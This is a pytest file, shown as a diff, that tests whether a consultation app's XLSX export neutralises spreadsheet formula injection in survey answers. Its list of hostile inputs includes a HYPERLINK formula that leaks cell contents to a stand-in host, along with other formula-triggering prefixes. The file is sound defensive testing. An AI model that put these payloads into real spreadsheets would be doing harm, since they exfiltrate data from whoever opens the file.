@@ -1,0 +1,98 @@
+"""The strategy-input workbook a planner takes to the council."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from tests.fixtures import csrf_token, idempotency_key, sign_in
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "@SUM(1)",
+    "+1+1",
+    "-2+3",
+    "before\x01after",
+    "plain answer",
+]
+
+
+@pytest.fixture(scope="module")
+def survey(make_survey, client):
+    survey = make_survey("helsinki-export")
+    single = survey.question_ids["single"]
+    scale = survey.question_ids["scale"]
+    text = survey.question_ids["text"]
+    yes = survey.option_ids["single"][0]
+    for answer in HOSTILE:
+        html = client.get(survey.url).text
+        response = client.post(survey.url, data={
+            "_csrf_token": csrf_token(html), "idempotency_key": idempotency_key(html),
+            f"q{single}": str(yes), f"q{scale}": str(survey.option_ids["scale"][2]),
+            f"q{text}": answer,
+        }, follow_redirects=False)
+        assert response.status_code == 303
+    return survey
+
+
+@pytest.fixture(scope="module")
+def workbook(client, make_staff, survey):
+    make_staff("hanna.planner", "planner")
+    assert sign_in(client, "hanna.planner").status_code == 303
+    response = client.get(f"/staff/surveys/{survey.survey_id}/export.xlsx")
+    client.cookies.clear()
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith(
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    assert "attachment" in response.headers["content-disposition"]
+    return load_workbook(io.BytesIO(response.content))
+
+
+def test_workbook_has_a_summary_and_a_responses_sheet(workbook):
+    assert workbook.sheetnames == ["Summary", "Responses"]
+
+
+def test_summary_gives_counts_and_percentages(workbook):
+    rows = [tuple(cell.value for cell in row) for row in workbook["Summary"].iter_rows()]
+    assert ("Consultation", "Consultation helsinki-export") in [r[:2] for r in rows]
+    assert ("Responses", len(HOSTILE)) in [r[:2] for r in rows]
+    yes = next(r for r in rows if r[1] == "Yes")
+    assert yes[2] == len(HOSTILE)
+    assert yes[3] == 100.0
+
+
+def test_every_answer_is_in_the_responses_sheet_as_text(workbook):
+    sheet = workbook["Responses"]
+    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
+    column = next(i for i, title in enumerate(header) if "What should the city do?" in title)
+    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
+    assert len(cells) == len(HOSTILE)
+    by_value = {cell.value: cell for cell in cells}
+    for answer in HOSTILE:
+        expected = answer.replace("\x01", "\ufffd")
+        cell = by_value[expected]
+        assert cell.data_type == "s", f"{answer!r} was not stored as text"
+    for formula_like in HOSTILE[:4]:
+        assert by_value[formula_like].quotePrefix, f"{formula_like!r} lacks the quote prefix"
+    assert not by_value["plain answer"].quotePrefix
+
+
+def test_no_cell_anywhere_is_a_formula(workbook):
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
+
+
+def test_exports_are_audited(run, workbook, survey):
+    from consult.tables import AuditEvent
+
+    events = run(
+        AuditEvent.select(AuditEvent.action, AuditEvent.object_id)
+        .where(AuditEvent.is_export == True)  # noqa: E712 (Piccolo builds SQL from ==)
+        .run
+    )
+    assert {"action": "export_xlsx", "object_id": survey.survey_id} in events
